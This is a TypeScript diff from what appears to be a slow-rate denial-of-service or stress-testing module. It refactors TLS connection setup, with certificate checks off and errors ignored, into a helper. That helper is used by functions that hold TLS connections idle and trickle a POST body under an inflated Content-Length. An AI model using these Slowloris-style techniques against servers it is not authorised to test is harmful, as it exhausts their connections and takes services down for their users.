@@ -119,6 +119,13 @@ export function trickleClientHello(target: AttackTarget, perSource: number, clie
   });
 }
 
+/** A TLS client over `socket` that checks no certificate and ignores errors (a reset is the server's answer). */
+function tlsOver(socket: net.Socket, servername: string): tls.TLSSocket {
+  const secure = tls.connect({ socket, servername, rejectUnauthorized: false });
+  secure.on('error', () => undefined);
+  return secure;
+}
+
 /** Connections that finish a TLS handshake (certificate unchecked) and send no request. */
 export function holdTlsIdle(target: AttackTarget, perSource: number, servername: string, reopenMs = 50): Attack {
   return keepOpen({
@@ -126,8 +133,7 @@ export function holdTlsIdle(target: AttackTarget, perSource: number, servername:
     perSource,
     reopenMs,
     onConnect: (socket) => {
-      const secure = tls.connect({ socket, servername, rejectUnauthorized: false });
-      secure.on('error', () => undefined);
+      const secure = tlsOver(socket, servername);
       return () => secure.destroy();
     },
   });
@@ -150,8 +156,7 @@ export function trickleBody(target: AttackTarget, perSource: number, servername:
     perSource,
     reopenMs,
     onConnect: (socket) => {
-      const secure = tls.connect({ socket, servername, rejectUnauthorized: false });
-      secure.on('error', () => undefined);
+      const secure = tlsOver(socket, servername);
       let timer: NodeJS.Timeout | undefined;
       secure.once('secureConnect', () => {
         secure.write(`POST ${body.path} HTTP/1.1\r\nHost: ${servername}\r\nContent-Type: application/json\r\nContent-Length: ${body.declaredBytes}\r\n\r\n{`);
